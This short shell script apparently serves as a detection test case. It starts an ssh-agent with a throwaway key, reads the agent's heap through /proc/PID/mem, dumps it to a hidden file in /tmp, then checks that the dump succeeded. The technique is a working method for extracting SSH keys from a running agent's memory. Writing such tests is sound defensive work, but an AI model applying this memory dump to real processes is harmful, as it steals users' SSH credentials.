#!/bin/sh
. /opt/case/case.sh

eval "$(ssh-agent -s)" >/dev/null; ssh-keygen -q -t rsa -b 2048 -N '' -f /tmp/k; ssh-add -q /tmp/k
cat >/tmp/d.sh <<'END'
exec 5</proc/$1/mem; a=$(awk '/heap/ { print $1 }' /proc/$1/maps)
perl -e 'my ($a, $b) = map { hex } split /-/, shift; open my $m, "<&=5"; binmode $m; sysseek $m, $a, 0; sysread $m, my $d, $b - $a; open my $o, ">", "/tmp/.agent"; print $o $d' "$a"
END
bash /tmp/d.sh "$SSH_AGENT_PID"
test -s /tmp/.agent; kill "$SSH_AGENT_PID"
took_place
